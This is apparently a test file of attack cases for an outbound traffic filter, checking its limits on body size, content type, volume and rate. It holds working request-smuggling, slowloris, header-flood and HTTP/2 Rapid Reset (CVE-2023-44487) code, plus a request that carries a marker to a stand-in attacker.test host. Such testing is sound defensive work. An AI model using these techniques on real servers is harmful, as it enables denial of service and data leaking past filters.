"""More than was agreed on the way out (limited.test: body<=64K, type=text/plain, total<=200K, rate<=40/m)."""

import time

import h2
from inside import Family

family = Family("bodies", __doc__)
TYPE = ("content-type", "text/plain")


def tail(t, n=200_000):
    return b"." * n + t.mark.encode()


@family.attack("bytes")
def too_long(t):
    t.request("limited.test", "/upload", [TYPE], "POST", tail(t))


@family.attack("bytes")
def too_long_chunked(t):
    body = tail(t)
    t.raw("limited.test", b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
          + b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 9000]), body[i:i + 9000]) for i in range(0, len(body), 9000)) + b"0\r\n\r\n")


@family.attack("bytes")
def too_long_h2(t):
    body = tail(t, 66_000)
    head = [*t.pseudo("limited.test", "/upload", "POST"), TYPE]
    with t.tls("limited.test", alpn=("h2",)) as s:
        s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.pack(head)))
        for i in range(0, 60_000, 10_000):
            s.sendall(h2.frame(h2.DATA, 0, 1, body[i:i + 10_000]))
        time.sleep(0.3)
        s.settimeout(2)
        s.recv(65536)  # the window grows again
        s.sendall(h2.frame(h2.DATA, h2.END_STREAM, 1, body[60_000:]))
        t.drain(s, 1)


@family.attack("bytes")
def longer_than_said(t):
    """Content-Length within the limit, and more behind it."""
    t.raw("limited.test", b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: text/plain\r\nContent-Length: 10\r\n\r\n" + b"." * 10 +
          b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: image/png\r\nContent-Length: 40\r\n\r\n" + t.mark.encode() + b"." * 20)


@family.attack()
def wrong_type(t):
    t.request("limited.test", f"/upload/{t.mark}", [("content-type", "application/octet-stream")], "POST", b"loot")


@family.attack()
def no_type(t):
    t.request("limited.test", f"/upload/{t.mark}", [], "POST", b"loot")


@family.attack()
def body_of_get(t):
    """A body where none is expected, of a type that is not granted."""
    t.request("limited.test", f"/upload/{t.mark}", [("content-type", "application/octet-stream")], "GET", b"loot")


@family.attack("bytes")
def total(t):
    """Many small ones make a large one."""
    for _ in range(4):
        t.request("limited.test", "/upload", [TYPE], "POST", b"." * 60_000)
    t.request("limited.test", "/upload", [TYPE], "POST", b"." * 60_000 + t.mark.encode())


@family.attack()
def rate(t):
    """Small ones, many: a bit each."""
    for _ in range(45):
        t.request("limited.test", "/tick", [])
    t.request("limited.test", f"/tick/{t.mark}", [])


@family.attack("bytes")
def slow_head(t):
    """Connections that never say anything whole; one request in pieces of a byte to a host that is not granted."""
    held = [t.dial("open.test") for _ in range(50)]
    for s in held:
        s.sendall(b"\x16\x03\x01")
    t.raw("attacker.test", [bytes([b]) for b in f"GET /{t.mark} HTTP/1.1\r\nHost: attacker.test\r\n\r\n".encode()], wait=2)
    for s in held:
        s.close()


@family.attack()
def slow_body(t):
    """Judged by its head, however slowly the body comes."""
    t.raw("limited.test", [f"POST /upload/{t.mark} HTTP/1.1\r\nHost: limited.test\r\nContent-Type: image/png\r\nContent-Length: 8\r\n\r\n", "12", "34", "56", "78"])


@family.attack()
def many_headers(t):
    t.request("open.test", f"/pub/{t.mark}", [(f"x-{i}", "a" * 100) for i in range(3000)])


@family.attack()
def long_header(t):
    t.request("open.test", f"/pub/{t.mark}", [("x-long", "a" * 400_000)])


@family.attack()
def many_streams(t):
    """1,000 streams at once, the last of them to a path that is not granted."""
    frames = [h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * i, h2.pack(t.pseudo("open.test", "/pub/x"))) for i in range(1000)]
    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}"))))
    t.frames("open.test", *frames)


@family.attack()
def rapid_reset(t):
    """CVE-2023-44487, and behind it one that is not granted."""
    frames = []
    for i in range(2000):
        frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * i, h2.pack(t.pseudo("open.test", "/pub/x"))))
        frames.append(h2.frame(h2.RESET, 0, 1 + 2 * i, b"\0\0\0\x08"))
    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 4001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}"))))
    t.frames("open.test", *frames)
